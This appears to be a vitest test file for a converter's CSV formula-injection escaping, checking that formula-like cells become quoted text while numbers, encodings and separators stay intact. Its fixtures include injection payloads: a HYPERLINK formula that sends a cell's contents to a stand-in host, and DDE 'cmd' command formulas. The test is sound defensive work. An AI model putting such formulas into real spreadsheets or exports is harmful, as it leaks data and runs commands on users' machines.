// csv formula injection (issue 25 §3, OWASP): cells a spreadsheet would run as formulas come out as text,
// numbers stay numbers, and the file keeps its encoding, separator and quoting everywhere else.
import { describe, expect, it } from 'vitest';
import { ConvertError, configureConverter, DEFAULT_CONVERTER_SETTINGS } from '../../../converter/index.ts';
import { escapeCsvFormulas } from '../../../converter/csv.ts';
import { planConversion } from '../../../converter/options.ts';

const utf8 = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'));
const text = (b: Uint8Array) => Buffer.from(b).toString('utf8');

describe('escapeCsvFormulas', () => {
  it('writes formula cells as quoted text and leaves numbers, placeholders and other cells alone', () => {
    const csv =
      '"=HYPERLINK(""http://x.test/?leak=""&A2,""click"")",=cmd|\' /C calc\'!A0,@SUM(1+1),+1+cmd|x,-2+3+cmd|x,\tTab,"\rCR"\n' +
      '-5,+3,-1234.5,"-1,234.50",-1 234,5,-12%,-1E+05,-,+,"a ""quoted"" cell",plain,\n';
    const out = text(escapeCsvFormulas(utf8(csv), ',', 'utf-8'));
    expect(out).toBe(
      '"\'=HYPERLINK(""http://x.test/?leak=""&A2,""click"")","\'=cmd|\' /C calc\'!A0","\'@SUM(1+1)","\'+1+cmd|x","\'-2+3+cmd|x","\'\tTab","\'\rCR"\n' +
        '-5,+3,-1234.5,"-1,234.50",-1 234,5,-12%,-1E+05,-,+,"a ""quoted"" cell",plain,\n',
    );
  });

  it('escapes a quoted cell that begins with a line feed (a value that began with CR, as LibreOffice exports it)', () => {
    const out = text(escapeCsvFormulas(utf8('"\n=1+1","\nplain","a\nb",x\n'), ',', 'utf-8'));
    expect(out).toBe('"\'\n=1+1","\'\nplain","a\nb",x\n');
  });

  it('returns the same bytes when no cell needs it', () => {
    const csv = utf8('a,b\n1,-2\n');
    expect(escapeCsvFormulas(csv, ',', 'utf-8')).toBe(csv);
  });

  it('keeps UTF-16 (with its byte order mark), single-byte encodings and any separator', () => {
    const wide = new Uint8Array([0xff, 0xfe, ...Buffer.from('é;=1+1;-5\n', 'utf16le')]);
    const w = escapeCsvFormulas(wide, ';', 'utf-16');
    expect([...w.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect(Buffer.from(w.subarray(2)).toString('utf16le')).toBe('é;"\'=1+1";-5\n');
    // windows-1252 with a non-ASCII separator (§ is 0xA7 there), and a tab separator.
    const latin = new Uint8Array(Buffer.from('caf\xe9\xa7@A1\xa7-5\n', 'latin1'));
    expect(Buffer.from(escapeCsvFormulas(latin, '§', 'windows-1252')).toString('latin1')).toBe('caf\xe9\xa7"\'@A1"\xa7-5\n');
    expect(text(escapeCsvFormulas(utf8('a\t=1\t-5\r\n'), '\t', 'utf-8'))).toBe('a\t"\'=1"\t-5\r\n');
    expect(text(escapeCsvFormulas(utf8('x€=1€-5\n'), '€', 'utf-8'))).toBe('x€"\'=1"€-5\n');
  });

  it('is on by default, off with CSV_ESCAPE_FORMULAS=false, and refuses a separator it could not find', () => {
    expect(planConversion({ from: 'xlsx', to: 'csv' }).csvEscape).toEqual({ separator: ',', encoding: 'utf-8' });
    try {
      configureConverter({ csvEscapeFormulas: false });
      expect(planConversion({ from: 'xlsx', to: 'csv' }).csvEscape).toBeUndefined();
      expect(planConversion({ from: 'xlsx', to: 'csv', csv: { separator: '§', encoding: 'ibm850' } }).csvEscape).toBeUndefined();
    } finally {
      configureConverter({ csvEscapeFormulas: DEFAULT_CONVERTER_SETTINGS.csvEscapeFormulas });
    }
    expect(() => planConversion({ from: 'xlsx', to: 'csv', csv: { separator: '§', encoding: 'ibm850' } })).toThrow(ConvertError);
  });
});
